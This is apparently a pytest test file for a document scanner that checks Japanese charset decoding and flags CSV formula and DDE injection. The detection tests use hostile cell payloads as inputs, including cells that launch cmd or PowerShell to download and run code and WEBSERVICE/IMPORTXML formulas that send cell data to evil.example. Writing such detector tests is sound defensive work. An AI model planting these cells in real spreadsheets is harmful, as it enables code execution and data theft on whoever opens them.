from __future__ import annotations

import tarfile
from pathlib import Path

import pytest
from support.opened_file import all_text, found, opened, urls

from sekisho.parse.unpack.document import text_file
from sekisho.parse.unpack.opening import OverLimitError

FILES = Path("../shared/data/attachments/files.tar.xz")
WORDS = "見積書番号,得意先\r\n1001,株式会社髙橋商店\r\nお振込先は裏面をご覧ください。\r\n"


@pytest.mark.parametrize(
    "codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp932", "iso2022_jp_ext", "euc_jp"]
)
def test_japanese_in_its_charsets(codec):
    words = WORDS if codec == "cp932" or codec.startswith("utf") else WORDS.replace("髙", "高")
    assert text_file.text_of(words.encode(codec)) == words


def test_xml_says_its_charset():
    assert "r\u00e9sum\u00e9" in text_file.text_of(
        '<?xml version="1.0" encoding="ISO-8859-1"?><a>résumé</a>'.encode("latin-1")
    )


def test_text_and_addresses():
    opening = opened(text_file.open_text, "詳細はhttps://a.example/xをご覧ください\r\n二行目".encode("cp932"))
    assert all_text(opening) == "詳細はhttps://a.example/xをご覧ください\n二行目"
    assert urls(opening) == ["https://a.example/x"]


@pytest.mark.parametrize(
    ("cell", "severity"),
    [
        ("=cmd|'/C calc'!A0", "high"),
        ("\"=cmd|' /C powershell IEX(wget a.example/x)'!A0\"", "high"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "high"),
        ("+msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'' ", "high"),
        ('=DDE("cmd";"/C calc";"x")', "high"),
        ("-2+3+cmd|' /C calc'!D2", "high"),
        ("=ddeauto|x", "high"),
        ("=zzz|'" + "b" * 299 + "'!A0", None),
        ("=zzz|'" + "b" * 298 + "'!A0", "high"),
        ("x|!,=zzz|'/C calc'!A0", "high"),
        ("=REGISTER.ID(1)", "medium"),
        ("=Call (1)", "medium"),
        ('=WEBSERVICE("https://evil.example/?"&A1)', "medium"),
        ('=IMPORTXML("https://evil.example/"&A1,"//a")', "medium"),
    ],
)
def test_cells_that_are_commands(cell, severity):
    for line in (f"{cell}\n", f"1,山田,{cell},2\n", f"1\t{cell}\n"):
        assert found(opened(text_file.open_csv, line.encode())).get("csv-formula") == severity, line


@pytest.mark.parametrize(
    "line",
    [
        '="00123",山田,="0312345678"', "+81-3-1234-5678,-5,-1.2e3,@taro", "=SUM(A1:A3),=A1*B2", "-,-,―",
        "=====,-----",
        "2024/01/01,cmd|x,作業=cmd", "a=b|c!d", '=HYPERLINK("https://www.example.co.jp/","詳細")', "=IF(A1>0,1,0)|x",
    ],
)  # fmt: skip
def test_ordinary_cells_are_not(line):
    assert found(opened(text_file.open_csv, line.encode())) == {}


MANY = [f"{line}\n" * 1001 for line in ("cmd", "cmd\nx|y!a", "=a|b", "x,call (us)", "İ,cmd,x|y!a")]


@pytest.mark.parametrize("before", ["İstanbul,", "x,cmd,excel,call (us),import (no),", "cmd\n" * 900, *MANY])
def test_cells_behind_others(before):
    assert found(opened(text_file.open_csv, f"{before}=cmd|' /C calc'!A0\n".encode())) == {"csv-formula": "high"}


def test_the_first_cell_is_told():
    opening = opened(text_file.open_csv, b"=powershell|a!b,x\n=cmd|' /C calc'!A0\n")
    assert "powershell" in opening.findings[0].explanation


def test_the_real_csv_with_dde():
    if not FILES.exists():
        pytest.skip(f"{FILES} is not there")
    with tarfile.open(FILES) as archive:
        content = archive.extractfile("oletools/msodde/dde-in-csv.csv").read()
    assert found(opened(text_file.open_csv, content)) == {"csv-formula": "high"}


@pytest.mark.parametrize(
    "hostile", ["=", "=cmd", ",=a", "=cmd /c ", "=a|b", "+" * 9 + "cmd ", ',"=', "=a|" + "b" * 290]
)
def test_hostile_cells_take_bounded_time(hostile):
    opening = opened(text_file.open_csv, hostile.encode() * (1_000_000 // len(hostile)), seconds=30)
    assert not opening.budget.hit


@pytest.mark.parametrize("hostile", ["=a|\n" + "cmd\n" * 100_000, "=a|!\n" + "|" * 100_000 + "!"])
def test_what_there_is_no_time_for_is_told(hostile):
    with pytest.raises(OverLimitError):
        opened(text_file.open_csv, hostile.encode(), seconds=0)
